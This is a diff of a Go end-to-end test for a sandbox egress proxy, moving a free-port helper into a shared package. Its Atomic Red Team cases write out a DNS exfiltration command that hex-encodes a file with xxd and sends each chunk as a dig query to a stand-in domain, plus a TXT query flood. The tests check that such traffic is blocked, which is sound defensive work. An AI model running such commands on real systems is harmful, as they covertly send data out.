@@ -3,7 +3,6 @@ package egress_test
 import (
 	"bufio"
 	"fmt"
-	"net"
 	"net/http"
 	"os"
 	"os/exec"
@@ -14,6 +13,7 @@ import (
 	"time"
 
 	"github.com/watcherhq/watcher/internal/audit"
+	"github.com/watcherhq/watcher/internal/e2etest"
 	"github.com/watcherhq/watcher/internal/enforce/enforcetest"
 )
 
@@ -90,17 +90,6 @@ func (f *fixture) blockedByProxy(t *testing.T, name string) audit.Event {
 	return f.dnsEvents.wait(t, "proxy block of "+name, func(ev audit.Event) bool {
 		return ev.DNS != nil && strings.EqualFold(ev.DNS.Name, name) && ev.Verdict == audit.VerdictDenied && ev.Sandbox.Name == "sb"
 	})
-}
-
-// freePort returns a TCP port nothing listens on now.
-func freePort(t *testing.T) int {
-	t.Helper()
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer ln.Close()
-	return ln.Addr().(*net.TCPAddr).Port
 }
 
 // atomicCases adapts each DNS-related Atomic Red Team row to the test
@@ -201,7 +190,7 @@ func atomicCases(f *fixture) map[string]func(t *testing.T) error {
 			return nil
 		},
 		// python -m SimpleHTTPServer 1337 on the victim: a negative control.
-		"T1048.003#1": func(t *testing.T) error { return httpServerControl(t, freePort(t)) },
+		"T1048.003#1": func(t *testing.T) error { return httpServerControl(t, e2etest.FreePort(t)) },
 		// xxd -p input_file | for data in ...; do dig $data.domain; done
 		"T1048.003#3": func(t *testing.T) error {
 			file := filepath.Join(t.TempDir(), "input_file")
@@ -211,7 +200,7 @@ func atomicCases(f *fixture) map[string]func(t *testing.T) error {
 			return expectAllNX(t, "xxd -p "+file+" | while read data; do "+digAt(n.dead.String())+"$data.cdn.test; done", 3)
 		},
 		// python3 -m http.server 9090: listening socket only, negative control.
-		"T1048.003#8": func(t *testing.T) error { return httpServerControl(t, freePort(t)) },
+		"T1048.003#8": func(t *testing.T) error { return httpServerControl(t, e2etest.FreePort(t)) },
 		// DNS Large Query Volume: TXT atomicredteam-<rand>.127.0.0.1.nip.io.
 		"T1071.004#1": func(t *testing.T) error {
 			return expectAllNX(t, `for i in $(seq 30); do `+digAt("127.0.0.1")+`TXT atomicredteam-$RANDOM.127.0.0.1.nip.io; done`, 30)
